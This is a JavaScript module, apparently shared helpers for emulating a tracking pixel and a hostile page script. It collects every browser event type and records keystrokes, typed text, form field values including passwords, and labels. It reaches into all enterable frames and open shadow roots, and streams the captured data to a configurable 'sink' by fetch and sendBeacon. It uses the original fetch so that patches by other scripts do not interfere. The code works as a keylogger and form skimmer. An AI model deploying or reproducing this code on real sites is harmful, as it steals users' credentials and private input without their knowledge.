// What the pixel and the hostile script have in common: every type of event, an event in words, every frame they can
// reach into, and a way to send what they keep.

/** A page's own event handlers name most types; these have none there. */
const WITHOUT_HANDLER = ["focusin", "focusout", "compositionstart", "compositionupdate", "compositionend", "DOMContentLoaded", "touchstart", "touchmove", "touchend", "touchcancel", "securitypolicyviolation", "fullscreenchange"];

/** Every type of event that this browser knows on a window, a document or an element. */
export function eventTypes() {
  const types = new Set(WITHOUT_HANDLER);
  for (const one of [window, document, HTMLElement.prototype, SVGElement.prototype, HTMLMediaElement.prototype, MessagePort.prototype]) {
    for (const name in one) if (name.startsWith("on")) types.add(name.slice(2));
  }
  return [...types];
}

/** All of an event that says something: where, on what, which key, what was typed, what was said. @param {any} event */
export function inWords(event) {
  // Inside a shadow root the first of the path is the real target.
  const target = event.composedPath?.()[0] ?? event.target;
  const told = /** @type {Record<string, unknown>} */ ({ type: event.type, target: pathOf(target) });
  for (const name of ["clientX", "clientY", "pageX", "pageY", "screenX", "screenY", "key", "inputType", "data"]) {
    if (event[name] !== undefined) told[name] = event[name];
  }
  for (const touch of event.touches ?? []) Object.assign(told, { touch: [touch.clientX, touch.clientY] });
  for (const name of ["value", "checked"]) if (target?.[name] !== undefined) told[name] = target[name];
  if (/click|pointer|mouse|touch|focus|change|input/.test(event.type)) {
    told.text = target?.textContent?.slice(0, 500);
    told.label = target?.labels?.[0]?.textContent ?? target?.closest?.("label")?.textContent;
  }
  if (event.detail !== undefined) told.detail = event.detail;
  return told;
}

/** @param {any} target */
function pathOf(target) {
  const parts = [];
  for (let at = target; at?.localName; at = at.parentNode ?? at.host) parts.unshift(at.localName + (at.id ? `#${at.id}` : ""));
  return parts.join(" > ") || (target === window ? "window" : String(target));
}

/**
 * Calls `visit` with each window that can be entered, this one first, again and again, and once for each document.
 * @param {(window: any) => void} visit @param {() => ParentNode[]} roots shadow roots to look into, besides documents
 */
export function eachWindow(visit, roots = () => []) {
  const seen = new WeakSet();
  /** @param {any} place */
  const enter = (place) => {
    let document;
    try {
      document = place?.document;
    } catch {
      return;
    }
    if (!document) return;
    if (!seen.has(document)) {
      seen.add(document);
      visit(place);
    }
    const inside = [document, ...(place === window ? roots() : [])].flatMap((root) => [...root.querySelectorAll("iframe, frame, object")]);
    for (const frame of inside) enter(frame.contentWindow);
    for (let at = 0; at < place.length; at++) enter(place[at]);
  };
  enter(window);
  setInterval(() => enter(window), 50);
}

/** The shadow roots that a page lets anybody see. @returns {ShadowRoot[]} */
export const openRoots = () => [...document.querySelectorAll("*")].flatMap((one) => one.shadowRoot ?? []);

/**
 * Sends what is kept to the sink, every half second, and the rest as the page goes, as beacons of a size they may have.
 * @param {unknown[]} kept @param {string} sink
 */
export function sending(kept, sink) {
  // As they were before anybody patched them: the hostile script patches them too.
  const { fetch, JSON } = window;
  const stringify = JSON.stringify, beacon = navigator.sendBeacon.bind(navigator);
  let sent = 0;
  const flush = async () => {
    const body = stringify(kept.slice(sent));
    sent = kept.length;
    if (body !== "[]") await fetch(`${sink}/collect`, { method: "POST", body, mode: "no-cors" });
  };
  setInterval(flush, 500);
  addEventListener("pagehide", () => {
    let body = "";
    for (const one of kept.slice(sent)) {
      const more = stringify(one) ?? "";
      if (body.length + more.length > 30_000) {
        beacon(`${sink}/last`, body);
        body = "";
      }
      body += more.slice(0, 30_000);
    }
    beacon(`${sink}/last`, body + "[]");
    sent = kept.length;
  });
  return flush;
}
